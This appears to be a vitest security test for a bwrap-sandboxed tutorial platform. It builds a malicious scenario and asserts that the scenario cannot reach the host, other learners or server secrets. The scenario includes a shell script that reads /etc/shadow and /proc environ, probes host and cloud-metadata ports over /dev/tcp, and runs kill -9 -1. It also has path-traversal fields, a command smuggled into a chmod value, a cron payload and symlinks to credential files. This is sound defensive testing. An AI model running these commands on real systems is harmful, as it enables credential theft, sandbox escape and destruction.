import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { bwrapDriver } from './host/sandbox/bwrap.ts'
import { testRootFileSystems } from './host/sandbox/testing.ts'
import { joinAs, until, type Learner } from './testing/learner.ts'
import { buildPrograms, startServer, type BuiltPrograms, type StartedServer } from './testing/start-server.ts'

// A scenario whose author wants the machine it runs on. What its scripts may do inside is the attack suite's business; here
// the whole way is tried, from the files of a scenario to a learner who opens it.

const outside = mkdtempSync(join(tmpdir(), 'outside-'))
const probe = await bwrapDriver({ folder: outside, rootFileSystems: testRootFileSystems }).probe()

const mark = `mark-${process.pid}`

const evilIndex = (port: number) => ({
  title: '../../../etc/passwd',
  details: {
    intro: { text: 'intro.md', foreground: 'foreground.sh', background: 'background.sh' },
    steps: [
      { title: 'Outside', text: '../../../../../../etc/passwd' },
      { title: 'A link', text: 'leak.md', verify: 'verify.sh' },
    ],
    assets: {
      host01: [
        { file: 'leak', target: '~/' },
        { file: 'huge', target: '~/' },
        { file: 'payload', target: join(outside, 'by-asset') },
        { file: 'payload', target: `../../../../../../..${outside}/by-climbing` },
        { file: 'payload', target: '/etc/cron.d', chmod: '4777; touch /tmp/x' },
        { file: '../../../../../../etc/passwd', target: '~/stolen' },
      ],
    },
  },
  environment: {
    uilayout: 'editor-terminal', uieditorpath: '/proc/1/root/etc', showdashboard: true,
    dashboards: [{ name: 'x', href: 'javascript:alert(1)' }, { name: 'y', port: port }], hosts: [{ name: '../../host' }],
  },
  backend: { imageid: '../../../../../../../../etc' },
})

/** Tries to leave the machine; writes what it found. */
const attack = (name: string, port: number) => `
touch ${outside}/${name} /proc/1/root${outside}/${name} /usr/${mark} /etc/${mark} 2>/dev/null
for at in 127.0.0.1 localhost $(hostname -I 2>/dev/null) 169.254.169.254; do (exec 3<>/dev/tcp/$at/${port} && printf 'GET /${name} HTTP/1.0\\r\\n\\r\\n' >&3) 2>/dev/null; done
{ cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'; for path in ${outside}/of-the-host /run/rehearsal ${process.cwd()}; do [ -e "$path" ] && echo a-path-of-the-host; done; cat /etc/shadow 2>/dev/null; cat /proc/1/root/etc/shadow 2>/dev/null; } > ~/found-${name}
kill -9 -1 2>/dev/null
echo finished > ~/done-${name}
`

function writeEvil(scenarios: string, port: number): void {
  const folder = join(scenarios, 'evil')
  mkdirSync(join(folder, 'assets'), { recursive: true })
  const put = (name: string, text: string): void => writeFileSync(join(folder, name), text)
  put('index.json', JSON.stringify(evilIndex(port)))
  put('intro.md', 'Welcome.')
  put('foreground.sh', attack('foreground', port).replaceAll('kill -9 -1 2>/dev/null\n', ''))
  put('background.sh', attack('background', port).replaceAll('kill -9 -1 2>/dev/null\n', ''))
  put('verify.sh', `(${attack('verify', port).trim()})\nexit 1\n`)
  put('assets/payload', '* * * * * root touch /tmp/owned\n')
  put('assets/huge', '')
  truncateSync(join(folder, 'assets/huge'), 2 ** 30)
  symlinkSync('/etc/shadow', join(folder, 'assets/leak'))
  symlinkSync('/etc/passwd', join(folder, 'leak.md'))
  symlinkSync('/', join(folder, 'assets/root'))
}

describe.skipIf(!probe.ok)(probe.ok ? 'R15: a malicious author' : `R15: not tried, ${probe.reason}`, () => {
  let programs: BuiltPrograms
  let server: StartedServer
  const learners: Learner[] = []
  const asked: string[] = []
  const onHost = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.end('of the host')
  })

  beforeAll(async () => {
    writeFileSync(join(outside, 'of-the-host'), '')
    await new Promise<void>((resolve) => onHost.listen(0, resolve))
    // A listening server has an address with a port.
    const { port } = onHost.address() as AddressInfo
    programs = await buildPrograms()
    server = await startServer({ programs, env: { REHEARSAL_DRIVER: 'bwrap', REHEARSAL_ROOTFS: testRootFileSystems, SECRET_OF_THE_SERVER: 'a-secret-of-ours' }, addScenarios: (folder) => writeEvil(folder, port) })
  }, 120_000)

  afterAll(async () => {
    for (const learner of learners) {
      await learner.client.end()
      learner.leave()
    }
    expect(await server.stop()).toBe(0)
    programs.remove()
    await new Promise((resolve) => onHost.close(resolve))
    rmSync(outside, { recursive: true })
  }, 60_000)

  it('reaches neither the host nor another learner nor what the server knows', async () => {
    const victim = await joinAs({ url: server.url })
    learners.push(victim)
    victim.type('echo private-of-the-victim > ~/note; export MINE=here\r')
    const processes = [server.pidOf('web'), server.pidOf('host')]

    const evil = await joinAs({ url: server.url, scenario: 'evil' })
    learners.push(evil)
    for (const page of [0, 1, 2]) expect((await evil.client.request('page:open', { page })).ok).toBe(true)
    for (const name of ['foreground', 'background', 'verify']) {
      // It kills all it can reach, the others' shells among them, so it comes last.
      if (name === 'verify') expect(await evil.client.request('check:run', { page: 2 })).toMatchObject({ ok: true, value: { passed: false } })
      const found = await read(evil, `found-${name}`, `done-${name}`)
      expect(found, name).toMatch(/TERM=/) // It did look.
      expect(found, name).not.toMatch(/a-secret-of-ours|private-of-the-victim|REHEARSAL_|root:[*!$]|^a-path-of-the-host$/m)
    }
    for (const path of ['leak', 'huge', 'stolen/passwd', 'stolen']) expect(await evil.client.request('files:read', { path }), path).toMatchObject({ ok: false })

    expect(asked).toEqual([])
    for (const name of ['foreground', 'background', 'verify', 'by-asset', 'by-climbing']) expect(existsSync(join(outside, name)), name).toBe(false)
    for (const path of [`/usr/${mark}`, `/etc/${mark}`, '/etc/cron.d/payload']) expect(existsSync(path), path).toBe(false)
    expect([server.pidOf('web'), server.pidOf('host')]).toEqual(processes)
    victim.type('echo "and "$MINE $(cat ~/note)\r')
    await until(() => victim.text.includes('and here private-of-the-victim'), () => victim.text.toString())
  }, 120_000)
})

/** A file that a script of the scenario left, once that script is done. */
async function read(learner: Learner, path: string, done: string): Promise<string> {
  let text = ''
  for (const end = performance.now() + 30_000; performance.now() < end;) {
    const finished = await learner.client.request('files:read', { path: done })
    const found = await learner.client.request('files:read', { path })
    if (found.ok) text = found.value.text
    if (finished.ok && found.ok) return text
    // The gate for files lets so many through at once and no more; the disk inside has no news to wait for.
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
  throw new Error(`${done} did not come: ${learner.text.toString()}`)
}
